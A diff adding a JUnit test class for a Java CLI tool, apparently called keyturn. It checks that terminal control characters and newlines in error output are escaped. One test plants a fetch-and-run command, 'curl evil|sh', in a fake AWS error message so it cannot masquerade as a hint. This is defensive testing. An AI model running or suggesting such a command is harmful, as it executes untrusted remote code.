@@ -1,0 +1,55 @@
+package dev.keyturn.cli.adapter.terminal;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.keyturn.cli.command.line.Failures;
+import dev.keyturn.domain.failure.Failure;
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class StandardStreamsTest {
+
+  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
+  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
+  private final StandardStreams streams = new StandardStreams(out, err);
+
+  @ParameterizedTest
+  @ValueSource(chars = {0, 7, '\t', '\r', 0x1b, 0x7f, 0x85, 0x9b, 0x2028, 0x2029})
+  void a_character_that_a_terminal_obeys_is_shown_as_its_escape(char obeyed) {
+    streams.error("a" + obeyed + "b");
+    assertThat(written()).isEqualTo("a\\u%04xb\n".formatted((int) obeyed));
+  }
+
+  @Test
+  void other_characters_are_shown_as_they_are() {
+    streams.error("josé 日本 😀 ~");
+    assertThat(written()).isEqualTo("josé 日本 😀 ~\n");
+  }
+
+  @Test
+  void an_error_may_have_lines_but_a_note_is_one() {
+    streams.error("a\nb");
+    streams.note("c\nd");
+    assertThat(written()).isEqualTo("a\nb\nkeyturn: c\\u000ad\n");
+  }
+
+  @Test
+  void what_aws_says_cannot_look_like_a_hint() {
+    Failures.print(
+        streams, new Failure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), false);
+    assertThat(written()).contains("no\\u000ahint: curl evil|sh").hasLineCount(1);
+  }
+
+  @Test
+  void the_result_is_written_as_it_is() {
+    streams.line("\u001b[31m");
+    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("\u001b[31m\n");
+  }
+
+  private String written() {
+    return err.toString(StandardCharsets.UTF_8);
+  }
+}
